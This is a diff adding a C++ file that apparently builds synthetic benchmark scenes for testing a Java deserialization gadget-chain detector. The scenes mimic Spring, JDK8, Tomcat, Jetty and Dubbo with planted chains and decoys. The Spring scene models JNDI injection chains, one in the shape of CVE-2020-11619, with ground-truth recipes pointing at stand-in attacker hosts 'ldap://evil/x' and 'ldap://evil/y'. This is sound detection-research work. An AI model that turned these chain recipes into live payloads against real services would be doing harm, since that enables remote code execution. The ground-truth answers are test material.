@@ -1,0 +1,206 @@
+#include "corpus/scenes.hpp"
+
+#include <stdexcept>
+
+#include "corpus/jdk.hpp"
+#include "corpus/noise.hpp"
+#include "corpus/planter.hpp"
+
+namespace tabby::corpus {
+
+namespace {
+
+using runtime::ObjectSpec;
+using runtime::Ref;
+
+struct SceneSpec {
+  const char* name;
+  const char* version;   // Table X
+  const char* pkg;
+  int jar_count;         // Table X "Jar file count"
+  int effective;         // generic effective chains (Spring adds 3 JNDI ones)
+  int guarded;           // fakes (result = effective + guarded)
+  bool spring_jndi = false;
+};
+
+const SceneSpec kScenes[] = {
+    {"Spring", "2.4.3", "org.springframework", 66, 4, 3, true},
+    {"JDK8", "8u242", "com.sun.jdk8sim", 19, 10, 3, false},
+    {"Tomcat", "8.5.47", "org.apache.catalina", 25, 3, 1, false},
+    {"Jetty", "9.4.36", "org.eclipse.jetty", 67, 4, 2, false},
+    {"Apache Dubbo", "3.0.2", "org.apache.dubbo", 15, 3, 2, false},
+};
+
+std::uint64_t seed_of(const SceneSpec& spec) {
+  std::uint64_t h = 1469598103934665603ULL;
+  for (const char* p = spec.name; *p != '\0'; ++p) {
+    h ^= static_cast<unsigned char>(*p);
+    h *= 1099511628211ULL;
+  }
+  return h;
+}
+
+/// The Table XI chains: three JNDI gadget chains through the Spring AOP /
+/// JNDI support classes (the third is the CVE-2020-11619 shape).
+void plant_spring_jndi(jir::ProgramBuilder& pb, std::vector<GroundTruthChain>& truths) {
+  auto locator = pb.add_class("org.springframework.jndi.JndiLocatorSupport");
+  locator.serializable();
+  locator.field("ctx", "javax.naming.Context");
+  locator.method("lookup")
+      .param("java.lang.String")
+      .returns("java.lang.Object")
+      .field_load("cx", "@this", "ctx")
+      .invoke_interface("r", "cx", "javax.naming.Context", "lookup", {"@p1"})
+      .ret("r");
+
+  auto bean_factory = pb.add_class("org.springframework.jndi.support.SimpleJndiBeanFactory");
+  bean_factory.extends("org.springframework.jndi.JndiLocatorSupport").serializable();
+  bean_factory.method("getBean")
+      .param("java.lang.String")
+      .returns("java.lang.Object")
+      .invoke_virtual("r", "@this", "org.springframework.jndi.JndiLocatorSupport", "lookup",
+                      {"@p1"})
+      .ret("r");
+
+  auto make_target_source = [&pb](const std::string& cls_name) {
+    auto target_source = pb.add_class(cls_name);
+    target_source.serializable();
+    target_source.field("beanFactory", "org.springframework.jndi.support.SimpleJndiBeanFactory");
+    target_source.field("targetBeanName", "java.lang.String");
+    target_source.method("getTarget")
+        .returns("java.lang.Object")
+        .field_load("bf", "@this", "beanFactory")
+        .field_load("n", "@this", "targetBeanName")
+        .invoke_virtual("r", "bf", "org.springframework.jndi.support.SimpleJndiBeanFactory",
+                        "getBean", {"n"})
+        .ret("r");
+  };
+  make_target_source("org.springframework.aop.target.LazyInitTargetSource");
+  make_target_source("org.springframework.aop.target.PrototypeTargetSource");
+
+  // Deserialization entries driving each chain.
+  struct Entry {
+    const char* holder;
+    const char* target_cls;  // empty: call getBean directly
+  };
+  const Entry entries[] = {
+      {"org.springframework.aop.target.LazyTargetHolder",
+       "org.springframework.aop.target.LazyInitTargetSource"},
+      {"org.springframework.aop.target.PrototypeTargetHolder",
+       "org.springframework.aop.target.PrototypeTargetSource"},
+      {"org.springframework.jndi.support.BeanFactoryHolder", ""},
+  };
+  for (const Entry& entry : entries) {
+    auto holder = pb.add_class(entry.holder);
+    holder.serializable();
+    GroundTruthChain truth;
+    truth.id = entry.holder;
+    truth.source_signature = std::string(entry.holder) + "#readObject/1";
+    truth.sink_signature = "javax.naming.Context#lookup/1";
+    truth.known_in_dataset = false;  // scene chains: effectiveness only
+
+    if (entry.target_cls[0] != '\0') {
+      holder.field("ts", entry.target_cls);
+      holder.method("readObject")
+          .param("java.io.ObjectInputStream")
+          .returns("void")
+          .field_load("t", "@this", "ts")
+          .invoke_virtual("r", "t", entry.target_cls, "getTarget", {})
+          .ret();
+      truth.witnesses.push_back(std::string(entry.target_cls) + "#getTarget/0");
+      truth.recipe.objects["root"] = ObjectSpec{entry.holder, {{"ts", Ref{"ts"}}}, {}};
+      truth.recipe.objects["ts"] = ObjectSpec{
+          entry.target_cls,
+          {{"beanFactory", Ref{"bf"}}, {"targetBeanName", std::string("ldap://evil/x")}},
+          {}};
+    } else {
+      holder.field("bf", "org.springframework.jndi.support.SimpleJndiBeanFactory");
+      holder.field("name", "java.lang.String");
+      holder.method("readObject")
+          .param("java.io.ObjectInputStream")
+          .returns("void")
+          .field_load("b", "@this", "bf")
+          .field_load("n", "@this", "name")
+          .invoke_virtual("r", "b", "org.springframework.jndi.support.SimpleJndiBeanFactory",
+                          "getBean", {"n"})
+          .ret();
+      truth.recipe.objects["root"] = ObjectSpec{
+          entry.holder, {{"bf", Ref{"bf"}}, {"name", std::string("ldap://evil/y")}}, {}};
+    }
+    truth.recipe.objects["bf"] = ObjectSpec{
+        "org.springframework.jndi.support.SimpleJndiBeanFactory", {{"ctx", Ref{"ctx"}}}, {}};
+    truth.recipe.objects["ctx"] = ObjectSpec{"javax.naming.InitialContext", {}, {}};
+    truth.recipe.root = "root";
+    truths.push_back(std::move(truth));
+  }
+}
+
+Scene build_from_spec(const SceneSpec& spec) {
+  Scene scene;
+  scene.name = spec.name;
+  scene.version = spec.version;
+
+  jir::ProgramBuilder pb;
+  Planter planter(pb, spec.pkg, seed_of(spec));
+  util::Rng& rng = planter.rng();
+
+  if (spec.spring_jndi) plant_spring_jndi(pb, scene.truths);
+
+  for (int i = 0; i < spec.effective; ++i) {
+    RealChainOptions options;
+    options.known = false;
+    options.iface = rng.chance(1, 2);
+    options.sink = kAllSinkFlavors[rng.next_below(std::size(kAllSinkFlavors))];
+    scene.truths.push_back(planter.plant_real_chain(options));
+  }
+  for (int i = 0; i < spec.guarded; ++i) {
+    scene.fakes.push_back(planter.plant_guarded_fake(
+        kAllSinkFlavors[rng.next_below(std::size(kAllSinkFlavors))]));
+  }
+  add_noise_classes(pb, std::string(spec.pkg) + ".internal", 60, seed_of(spec) ^ 0xACE);
+
+  jar::Archive gadget_jar;
+  gadget_jar.meta.name = std::string(spec.pkg) + "-core.jar";
+  gadget_jar.meta.version = spec.version;
+  gadget_jar.classes = pb.build().classes();
+
+  scene.jars.push_back(jdk_base_archive());
+  scene.jars.push_back(std::move(gadget_jar));
+  // Fill up to the Table X jar count with small noise jars.
+  util::Rng jar_rng(seed_of(spec) ^ 0x1A55);
+  for (int j = static_cast<int>(scene.jars.size()); j < spec.jar_count; ++j) {
+    int classes = static_cast<int>(jar_rng.next_in(20, 70));
+    scene.jars.push_back(make_noise_archive(
+        "dep-" + std::to_string(j) + ".jar",
+        std::string(spec.pkg) + ".dep" + std::to_string(j), classes, jar_rng.next_u64()));
+  }
+  return scene;
+}
+
+}  // namespace
+
+std::size_t Scene::total_bytes() const {
+  std::size_t total = 0;
+  for (const jar::Archive& archive : jars) total += jar::write_archive(archive).size();
+  return total;
+}
+
+jir::Program Scene::link() const { return jar::link(jars); }
+
+const std::vector<std::string>& scene_names() {
+  static const std::vector<std::string> names = [] {
+    std::vector<std::string> out;
+    for (const SceneSpec& spec : kScenes) out.emplace_back(spec.name);
+    return out;
+  }();
+  return names;
+}
+
+Scene build_scene(const std::string& name) {
+  for (const SceneSpec& spec : kScenes) {
+    if (name == spec.name) return build_from_spec(spec);
+  }
+  throw std::invalid_argument("unknown scene: " + name);
+}
+
+}  // namespace tabby::corpus
